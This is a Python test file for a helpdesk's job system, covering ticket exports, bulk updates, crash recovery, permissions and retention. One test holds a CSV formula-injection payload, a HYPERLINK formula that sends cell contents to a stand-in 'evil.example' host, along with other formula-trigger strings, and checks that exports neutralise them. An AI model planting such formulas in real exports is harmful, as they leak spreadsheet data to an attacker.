"""Long work: exports of one row per ticket, the same change to many, and what becomes of both when things go wrong."""

import csv
import io
import json
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import httpx
import pytest

from omnidesk.app import JOBS
from omnidesk.db import jobs as rows
from omnidesk.desk import access, housekeeping, job_exports, job_updates, jobs
from omnidesk.desk.jobs import Runner
from omnidesk.desk.owners import Owners
from omnidesk.domain import ids
from omnidesk.domain.people import SYSTEM, Role
from tests.api.conftest import Desk
from tests.api.test_problems import problem

BLIND = {"if-match": "*"}


@dataclass
class Work:
    desk: Desk
    api: httpx.AsyncClient
    runner: Runner

    async def ask(self, api: httpx.AsyncClient | None = None, /, **wish: Any) -> str:
        asked = await (api or self.api).post("/v1/jobs", json=wish)
        assert asked.status_code == 202, asked.text
        return str(asked.headers["location"])

    async def done(self, api: httpx.AsyncClient | None = None, /, **wish: Any) -> str:
        at = await self.ask(api, **wish)
        while await self.runner.step():
            pass
        assert (await self.api.get(at)).json()["state"] == "done"
        return at

    async def read(self, at: str) -> dict[str, Any]:
        return dict((await self.api.get(at)).json())

    async def table(self, at: str, delimiter: str = ",") -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO((await self.api.get(f"{at}/result")).text), delimiter=delimiter))

    async def lines(self, at: str) -> list[dict[str, Any]]:
        return [json.loads(line) for line in (await self.api.get(f"{at}/result")).text.splitlines()]


@pytest.fixture
async def work(desk: Desk) -> Work:
    runner = Runner(desk.db, desk.parts.files, JOBS, now=desk.now, owners=Owners(fresh_s=0.0))
    return Work(desk, await desk.key(), runner)


# --- exports --------------------------------------------------------------------------------------


async def test_an_export_has_one_row_per_ticket(work: Work) -> None:
    first = await work.desk.ticket("Where is my refund?", "ivan@customer.example")
    second = await work.desk.ticket("Ещё вопрос", "vera@customer.example", status="pending")
    asked = await work.api.post("/v1/jobs", json={"kind": "tickets.export"})
    assert (asked.status_code, asked.json()["state"], asked.json()["result_url"]) == (202, "queued", None)
    at = asked.headers["location"]
    problem(await work.api.get(f"{at}/result"), 409, "job_not_done")

    while await work.runner.step():
        pass
    job = await work.read(at)
    assert (job["state"], job["total"], job["done"]) == ("done", 2, 2)
    result = await work.api.get(job["result_url"])
    assert result.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="tickets-export-' in result.headers["content-disposition"]
    assert int(result.headers["content-length"]) == len(result.content)
    table = await work.table(at)
    assert [row["id"] for row in table] == [first, second]
    assert (table[1]["subject"], table[1]["status"], table[1]["requester_address"]) == (
        "Ещё вопрос",
        "pending",
        "vera@customer.example",
    )
    assert (table[0]["messages_in"], table[0]["messages_out"], table[0]["assignee"]) == ("1", "0", "")


async def test_no_cell_is_a_formula(work: Work) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1,"click")'
    for subject in (evil, "+7 999 123", "-1", "@SUM(A1)", "\tcmd", "＝1+1", 'He said "no", twice'):
        await work.desk.ticket("text", subject=subject)
    table = await work.table(await work.done(kind="tickets.export"))
    subjects = [row["subject"] for row in table]
    assert subjects[0] == f"'{evil}"
    assert [subject[0] for subject in subjects[:6]] == ["'"] * 6
    assert subjects[6] == 'He said "no", twice'
    exact = await work.lines(await work.done(kind="tickets.export", format="ndjson"))
    assert exact[0]["subject"] == evil


async def test_an_export_for_excel_and_for_programs(work: Work) -> None:
    await work.desk.ticket("Привет", facts={"order": "48213"}, required=["law", "=tax"])
    at = await work.done(kind="tickets.export", bom=True, delimiter=";", columns=["number", "subject"])
    text = (await work.api.get(f"{at}/result")).content
    assert text.startswith(b"\xef\xbb\xbfnumber;subject\r\n")
    (row,) = await work.table(await work.done(kind="tickets.export"))
    assert (row["required"], row["facts"]) == ("law, =tax", '{"order": "48213"}')
    (line,) = await work.lines(await work.done(kind="tickets.export", format="ndjson"))
    assert line["required"] == ["law", "=tax"]
    assert (line["facts"], line["closed_at"], line["messages_in"]) == ({"order": "48213"}, None, 1)


async def test_an_export_of_nothing_still_names_its_columns(work: Work) -> None:
    at = await work.done(kind="tickets.export", columns=["id", "number"])
    assert (await work.api.get(f"{at}/result")).text == "id,number\r\n"
    at = await work.done(kind="tickets.export", format="ndjson")
    assert (await work.api.get(f"{at}/result")).text == ""


async def test_filters_are_those_of_the_list_and_spam_is_asked_for(work: Work) -> None:
    cards = await work.desk.another_queue("Cards")
    await work.desk.ticket(status="spam")
    await work.desk.ticket(urgency="high")
    ours = await work.desk.ticket(urgency="high", queue_id=cards)
    wanted = {"urgency": ["high"], "queue": [ids.encode("queue", cards)]}
    at = await work.done(kind="tickets.export", filter=wanted)
    assert [row["id"] for row in await work.table(at)] == [ours]
    assert (await work.read(at))["asked"] == {"filter": wanted}
    assert len(await work.table(await work.done(kind="tickets.export"))) == 2
    spam = await work.table(await work.done(kind="tickets.export", filter={"status": ["spam"]}))
    assert [row["status"] for row in spam] == ["spam"]
    problem(await work.api.post("/v1/jobs", json={"kind": "tickets.export", "filter": {"colour": 1}}), 422, "invalid")


async def test_an_export_shows_what_its_owner_may_see_when_it_runs(work: Work) -> None:
    desk = work.desk
    cards = await desk.another_queue("Cards")
    boris = await desk.agent("Boris", queues=(cards,))
    loans = await desk.another_queue("Loans")
    ours, theirs = await desk.ticket(queue_id=cards), await desk.ticket(queue_id=loans)
    browser = await desk.signed_in(boris)
    at = await work.done(browser, kind="tickets.export", columns=["id"])
    assert [row["id"] for row in await work.table(at)] == [ours]

    later = await work.ask(browser, kind="tickets.export", columns=["id"])
    async with desk.db.transaction() as tx:
        await tx.driver.execute("DELETE FROM queue_agents WHERE agent_id = $1", boris)
        await tx.driver.execute("INSERT INTO queue_agents VALUES ($1, $2)", loans, boris)
    while await work.runner.step():
        pass
    assert [row["id"] for row in await work.table(later)] == [theirs]


async def test_the_job_of_one_who_is_gone_fails(work: Work) -> None:
    secret = await work.desk.secret()
    keyed = await work.desk.client(authorization=f"Bearer {secret}")
    at = await work.ask(keyed, kind="tickets.export")
    key_id = ids.decode("key", (await work.read(at))["owner"].removeprefix("key:"))
    await access.revoke_key(work.desk.db, key_id, SYSTEM, version=None, now=work.desk.now())
    await work.runner.step()
    job = await work.read(at)
    assert (job["state"], job["error"]) == ("failed", "owner_gone")


# --- going on after a crash -----------------------------------------------------------------------


async def test_a_job_goes_on_where_its_worker_died(work: Work, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before the batch is stored, between storing and committing, and after: no row twice, none missing."""
    monkeypatch.setattr(job_exports, "BATCH", 3)
    expected = [await work.desk.ticket() for _ in range(10)]
    at = await work.ask(kind="tickets.export", columns=["id"])
    store, write, dying = Runner._store, Runner._write, [""]

    async def dies(step: str, then: Any, *args: Any) -> Any:
        result = await then(*args)
        if dying[0] == step:
            raise KeyboardInterrupt
        return result

    monkeypatch.setattr(Runner, "_store", lambda *args: dies("store", store, *args))
    monkeypatch.setattr(Runner, "_write", lambda *args: dies("write", write, *args))
    for dying[0] in ("store", "", "write", "", "store", "write", "", "", ""):
        runner = Runner(work.desk.db, work.desk.parts.files, JOBS, slice_s=0.0)
        try:
            await runner.step()
        except KeyboardInterrupt:
            async with work.desk.db.transaction() as tx:
                await tx.driver.execute("UPDATE jobs SET until = now() - interval '1 s' WHERE state = 'running'")
    job = await work.read(at)
    assert (job["state"], job["done"], job["total"]) == ("done", 10, 10)
    assert [row["id"] for row in await work.table(at)] == expected


async def test_a_frozen_worker_that_comes_back_writes_nothing(work: Work, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(job_exports, "BATCH", 3)
    expected = [await work.desk.ticket() for _ in range(5)]
    at = await work.ask(kind="tickets.export", columns=["id"])
    async with work.desk.db.transaction() as tx:
        frozen = await rows.claim(tx, work.runner.holder, -1.0)
    assert frozen is not None
    work.runner.slice_s = 0.0
    await work.runner.step()
    assert (await work.read(at))["state"] == "running"
    async with work.desk.db.transaction() as tx:
        assert await rows.advance(tx, frozen, position=[], done=3, failed=0, part=None, lease_s=9) is None
        assert not await rows.finish(tx, frozen, "failed", "late")
    while await work.runner.step():
        pass
    assert [row["id"] for row in await work.table(at)] == expected


async def test_a_batch_that_keeps_failing_is_given_up_and_holds_up_nobody(
    work: Work, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = job_exports.TicketExport.batch

    async def breaks(self: Any, db: Any, job: Any, *more: Any) -> Any:
        if job.params["format"] == "ndjson":
            raise ZeroDivisionError
        return await real(self, db, job, *more)

    monkeypatch.setattr(job_exports.TicketExport, "batch", breaks)
    poison = await work.ask(kind="tickets.export", format="ndjson")
    other = await work.ask(kind="tickets.export")
    for _ in range(10):
        await work.runner.step()
        async with work.desk.db.transaction() as tx:
            await tx.driver.execute("UPDATE jobs SET due_at = due_at - interval '2 minutes'")
    assert (await work.read(other))["state"] == "done"
    assert (await work.read(poison))["error"] == "gave_up"


async def test_jobs_take_turns(work: Work, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(job_exports, "BATCH", 1)
    for _ in range(3):
        await work.desk.ticket()
    long, short = (
        await work.ask(kind="tickets.export"),
        await work.ask(kind="tickets.export", filter={"category": "none has it"}),
    )
    work.runner.slice_s = 0.0
    for _ in range(2):
        await work.runner.step()
    assert ((await work.read(long))["state"], (await work.read(short))["state"]) == ("running", "done")


# --- the same change to many ----------------------------------------------------------------------


async def test_many_tickets_are_changed_by_the_rules_of_each(work: Work) -> None:
    open_one, closed = await work.desk.ticket(status="open"), await work.desk.ticket(status="closed")
    stale = await work.desk.ticket(status="open")
    gone = "tkt_01jb0000000000000000000000"
    wanted = [{"id": open_one, "version": 1}, {"id": closed}, {"id": stale, "version": 9}, {"id": gone}]
    at = await work.done(kind="tickets.update", tickets=wanted, changes={"urgency": "high", "status": "resolved"})

    job = await work.read(at)
    assert (job["total"], job["done"], job["failed"]) == (4, 4, 3)
    lines = await work.lines(at)
    assert [line["ticket_id"] for line in lines] == [open_one, closed, stale, gone]
    assert [line.get("error", {}).get("code") for line in lines] == [None, "ticket_closed", "stale", "not_found"]
    ticket = (await work.api.get(f"/v1/tickets/{open_one}")).json()
    assert (ticket["urgency"], ticket["status"], ticket["version"]) == ("high", "resolved", lines[0]["version"])


async def test_a_ticket_changes_as_a_whole_or_not_at_all(work: Work) -> None:
    resolved = await work.desk.ticket(status="spam")
    at = await work.done(
        kind="tickets.update", tickets=[{"id": resolved}], changes={"urgency": "high", "status": "open"}
    )
    assert not (await work.lines(at))[0]["ok"]
    assert (await work.api.get(f"/v1/tickets/{resolved}")).json()["urgency"] == "normal"


async def test_a_change_by_filter_touches_each_ticket_once_though_it_leaves_the_filter(
    work: Work, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(job_updates, "BATCH", 2)
    tickets = [await work.desk.ticket(status="open") for _ in range(5)]
    other = await work.desk.ticket(status="pending")
    at = await work.done(kind="tickets.update", filter={"status": ["open"]}, changes={"status": "resolved"})
    assert [line["ticket_id"] for line in await work.lines(at)] == tickets
    assert (await work.api.get(f"/v1/tickets/{other}")).json()["status"] == "pending"


async def test_a_change_that_was_cut_off_is_neither_lost_nor_done_twice(
    work: Work, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With a version: done twice, the second time would say that it is stale."""
    tickets = [await work.desk.ticket(status="open") for _ in range(3)]
    at = await work.ask(
        kind="tickets.update", tickets=[{"id": one, "version": 1} for one in tickets], changes={"urgency": "high"}
    )
    write, died = Runner._write, list[bool]()

    async def dies_once(*args: Any) -> Any:
        result = await write(*args)
        if not died:
            died.append(True)
            raise KeyboardInterrupt
        return result

    monkeypatch.setattr(Runner, "_write", dies_once)
    with pytest.raises(KeyboardInterrupt):
        await work.runner.step()
    assert (await work.api.get(f"/v1/tickets/{tickets[0]}")).json()["urgency"] == "normal"
    async with work.desk.db.transaction() as tx:
        await tx.driver.execute("UPDATE jobs SET until = now() - interval '1 s'")
    while await work.runner.step():
        pass
    assert [line["ok"] for line in await work.lines(at)] == [True] * 3


async def test_assigning_many_takes_over_only_when_it_is_said(work: Work) -> None:
    desk = work.desk
    olena, boris = await desk.agent("Olena", queues=(await desk.queue(),)), await desk.agent("Boris")
    taken, browser = await desk.ticket(status="open", assignee_id=boris), await desk.signed_in(olena)
    mine = {"kind": "tickets.update", "tickets": [{"id": taken}], "changes": {"assignee_id": "me"}}
    (refused,) = await work.lines(await work.done(browser, **mine))
    (moved,) = await work.lines(await work.done(browser, **mine, reassign=True))
    assert (refused["error"]["code"], moved["ok"]) == ("already_assigned", True)
    assert (await work.api.get(f"/v1/tickets/{taken}")).json()["assignee_id"] == ids.encode("agent", olena)


async def test_nobody_changes_what_he_does_not_see(work: Work) -> None:
    desk = work.desk
    cards = await desk.another_queue("Cards")
    boris = await desk.agent("Boris", queues=(cards,))
    theirs = await desk.ticket(status="open", queue_id=await desk.another_queue("Loans"))
    at = await work.done(
        await desk.signed_in(boris), kind="tickets.update", tickets=[{"id": theirs}], changes={"urgency": "high"}
    )
    assert (await work.lines(at))[0]["error"]["code"] == "not_found"
    assert (await work.api.get(f"/v1/tickets/{theirs}")).json()["urgency"] == "normal"


# --- the resource ---------------------------------------------------------------------------------


async def test_a_cancelled_job_stops_and_tells_what_it_did(work: Work, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(job_updates, "BATCH", 2)
    tickets = [await work.desk.ticket(status="open") for _ in range(5)]
    at = await work.ask(kind="tickets.update", filter={}, changes={"urgency": "high"})
    work.runner.slice_s = 0.0
    await work.runner.step()
    before = (await work.api.get(at)).headers["etag"]
    cancelled = await work.api.post(f"{at}/cancel")
    assert (cancelled.json()["state"], cancelled.json()["done"]) == ("cancelled", 2)
    assert (await work.api.get(at, headers={"if-none-match": before})).status_code == 200
    assert not await work.runner.step()
    assert [line["ticket_id"] for line in await work.lines(at)] == tickets[:2]
    problem(await work.api.post(f"{at}/cancel"), 409, "job_over")


async def test_a_job_is_its_owners_and_the_administrators(work: Work) -> None:
    desk = work.desk
    olena, boris = await desk.signed_in(await desk.agent("Olena")), await desk.signed_in(await desk.agent("Boris"))
    at = await work.done(olena, kind="tickets.export")
    admin = await desk.signed_in(await desk.agent("Vera", Role.ADMIN))
    assert (await olena.get(f"{at}/result")).status_code == 200
    assert (await admin.get(at)).status_code == 200
    for answer in (await boris.get(at), await boris.get(f"{at}/result"), await boris.post(f"{at}/cancel")):
        problem(answer, 404, "not_found")
    assert (await boris.get("/v1/jobs")).json()["data"] == []
    assert [job["state"] for job in (await olena.get("/v1/jobs?state=done")).json()["data"]] == ["done"]


@pytest.mark.parametrize(
    "body",
    [
        {"kind": "tickets.update", "changes": {"urgency": "high"}},
        {"kind": "tickets.update", "filter": {}},
        {"kind": "tickets.update", "filter": {}, "changes": {}},
        {"kind": "tickets.update", "filter": {}, "tickets": [], "changes": {"urgency": "high"}},
        {"kind": "tickets.export", "changes": {"urgency": "high"}},
        {"kind": "tickets.export", "columns": ["password"]},
        {"kind": "tickets.update", "filter": {}, "changes": {"urgency": None}},
        {"kind": "tickets.update", "filter": {}, "changes": {"queue_id": "que_01jb0000000000000000000000"}},
        {"kind": "tickets.update", "filter": {}, "changes": {"assignee_id": "me"}},
        {"kind": "nothing"},
    ],
)
async def test_what_makes_no_sense_is_refused(work: Work, body: dict[str, Any]) -> None:
    problem(await work.api.post("/v1/jobs", json=body), 422, "invalid")


async def test_jobs_need_the_scope_of_what_they_do_and_are_not_piled_up(work: Work) -> None:
    reader = await work.desk.key("tickets:read")
    update = {"kind": "tickets.update", "filter": {}, "changes": {"urgency": "high"}}
    problem(await reader.post("/v1/jobs", json=update), 403, "missing_scope")
    for _ in range(jobs.MOST_OPEN):
        await work.ask(reader, kind="tickets.export")
    problem(await reader.post("/v1/jobs", json={"kind": "tickets.export"}), 429, "too_many_jobs")


async def test_results_are_removed_after_a_week_and_jobs_after_a_month(work: Work) -> None:
    await work.desk.ticket()
    at = await work.done(kind="tickets.export")
    now = work.desk.now()
    await housekeeping.sweep(work.desk.db, now=now + timedelta(days=6))
    assert (await work.api.get(f"{at}/result")).status_code == 200
    await housekeeping.sweep(work.desk.db, now=now + timedelta(days=8))
    problem(await work.api.get(f"{at}/result"), 404, "result_expired")
    assert (await work.read(at))["result_url"] is None
    assert await work.desk.count("job_parts") == 0
    await housekeeping.sweep(work.desk.db, now=now + timedelta(days=31))
    problem(await work.api.get(at), 404, "not_found")


async def test_the_pieces_of_a_result_are_not_swept_with_unused_files(work: Work) -> None:
    await work.desk.ticket()
    at = await work.done(kind="tickets.export")
    async with work.desk.db.transaction() as tx:
        await tx.driver.execute("UPDATE files SET created_at = now() - interval '30 days'")
    await work.desk.parts.files.sweep(work.desk.db)
    assert len(await work.table(at)) == 1
